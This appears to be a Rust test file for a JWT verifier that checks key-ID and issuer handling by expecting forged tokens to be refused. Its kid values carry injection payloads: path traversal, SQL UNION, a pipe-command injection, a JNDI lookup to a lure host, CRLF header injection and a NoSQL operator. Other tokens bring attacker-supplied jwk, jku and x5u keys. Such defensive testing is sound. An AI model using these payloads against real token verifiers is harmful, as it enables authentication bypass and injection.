//! Who chooses the key: the issuer does, by its name and by nothing that the token brings.

use super::Expected::{Passes, Refused};
use super::{Stage, Table};
use crate::forge::{Signer, with};
use base64ct::{Base64, Encoding};
use serde_json::{Value, json};

pub fn rows(table: &mut Table, stage: &Stage) {
    table.family("key");
    let claims = stage.claims();
    let header = |other: Value| stage.rsa.token_with(&other, &claims);
    table.bearer("a good token", "/jwt", &stage.token(), Passes);
    table.bearer(
        "one without a kid, for the one key that it can be",
        "/jwt",
        &header(json!({ "kid": null })),
        Passes,
    );

    // Signed with secrets that the kid would lead to, if it led anywhere.
    let empty = Signer::secret("", "HS256", b"");
    for (name, kid) in [
        ("a path", "../../../../../../dev/null"),
        ("a file", "/dev/null"),
        ("a query", "' UNION SELECT '' -- "),
        ("a command", "kid-rsa|/usr/bin/true"),
        ("a template", "${jndi:ldap://lure.example/a}"),
        ("a URL", "http://lure.example/keys"),
        ("a line end", "kid-rsa\r\nX-Consumer-Name: root"),
    ] {
        let forged = empty.token_with(&json!({ "kid": kid }), &claims);
        table.bearer(&format!("{name} for a kid"), "/jwt", &forged, Refused("token_key_unknown"));
    }
    for (name, kid, code) in [
        ("an unknown kid", json!("kid-unknown"), "token_key_unknown"),
        ("an empty kid", json!(""), "token_key_unknown"),
        ("a kid in another case", json!("KID-RSA"), "token_key_unknown"),
        ("a kid with a space", json!("kid-rsa "), "token_key_unknown"),
        ("a kid with a NUL", json!("kid-rsa\u{0}"), "token_key_unknown"),
        ("the beginning of a kid", json!("kid"), "token_key_unknown"),
        ("a number for a kid", json!(0), "token_malformed"),
        ("a list of kids", json!(["kid-rsa"]), "token_malformed"),
        ("an object for a kid", json!({ "$ne": "" }), "token_malformed"),
        ("a huge kid", json!("k".repeat(4000)), "token_malformed"),
        ("the kid of another key of the issuer", json!("kid-ec"), "token_algorithm"),
    ] {
        table.bearer(name, "/jwt", &header(json!({ "kid": kid })), Refused(code));
    }
    let null = stage.rsa.raw(r#"{"alg":"RS256","kid":null}"#, claims.to_string());
    table.bearer("null for a kid", "/jwt", &null, Refused("token_malformed"));
    let twice = stage.rsa.raw(r#"{"alg":"RS256","kid":"x","kid":"kid-rsa"}"#, claims.to_string());
    table.bearer("two kids", "/jwt", &twice, Refused("token_malformed"));

    // The thief's own key, brought along.
    let thief = &stage.thief;
    let lure = format!("http://{}", stage.lure.address);
    let certificate = Base64::encode_string(&thief.der());
    let mut named = thief.published();
    named["kid"] = json!("kid-rsa");
    for (name, brought) in [
        ("nothing", json!({})),
        ("its key as jwk", json!({ "jwk": thief.published() })),
        ("its key as jwk, under the name of the issuer's", json!({ "jwk": named })),
        ("its key set as jku", json!({ "jku": format!("{lure}/keys") })),
        (
            "its key set as jku, with the issuer for a user",
            json!({ "jku": format!("{}@{}/keys", stage.issuer, stage.lure.address) }),
        ),
        ("its certificate as x5c", json!({ "x5c": [certificate] })),
        ("its certificate as x5u", json!({ "x5u": format!("{lure}/certificate") })),
        ("its certificate as x5t#S256", json!({ "x5t#S256": "x" })),
        (
            "all of them",
            json!({ "jwk": named, "jku": format!("{lure}/keys"), "x5u": lure, "x5c": [certificate] }),
        ),
    ] {
        let own = thief.token_with(&brought, &claims);
        table.bearer(
            &format!("the thief's key and kid, with {name}"),
            "/jwt",
            &own,
            Refused("token_key_unknown"),
        );
        let borrowed = with(&brought, &json!({ "kid": "kid-rsa" }));
        let borrowed = thief.token_with(&borrowed, &claims);
        table.bearer(
            &format!("the issuer's kid, with {name}"),
            "/jwt",
            &borrowed,
            Refused("token_signature"),
        );
        let nameless = with(&with(&thief.header(), &brought), &json!({ "kid": null }));
        let nameless = thief.raw(nameless.to_string(), claims.to_string());
        table.bearer(&format!("no kid, with {name}"), "/jwt", &nameless, Refused("token_signature"));
    }

    table.family("issuer");
    let other = stage.but(&json!({ "iss": stage.other_issuer }));
    table.bearer("a good token of one issuer", "/two", &stage.token(), Passes);
    table.bearer("a good token of the other issuer", "/two", &stage.namesake.token(&other), Passes);
    for (name, token, code) in [
        (
            "one issuer's name, the other's key of the same name",
            stage.namesake.token(&claims),
            "token_signature",
        ),
        ("one issuer's name, the other's key", stage.stranger.token(&claims), "token_key_unknown"),
        ("the other issuer's name, one's key of the same name", stage.rsa.token(&other), "token_signature"),
        ("the other issuer's name, one's key", stage.ec.token(&other), "token_key_unknown"),
        (
            "nobody's name, one's key",
            stage.rsa.token(&stage.but(&json!({ "iss": "https://nobody.example" }))),
            "token_issuer",
        ),
        (
            "both names in a list",
            stage.rsa.token(&stage.but(&json!({ "iss": [stage.issuer, stage.other_issuer] }))),
            "token_issuer",
        ),
    ] {
        table.bearer(name, "/two", &token, Refused(code));
    }
    table.bearer(
        "an issuer of another route",
        "/jwt",
        &stage.namesake.token(&other),
        Refused("token_issuer"),
    );
}
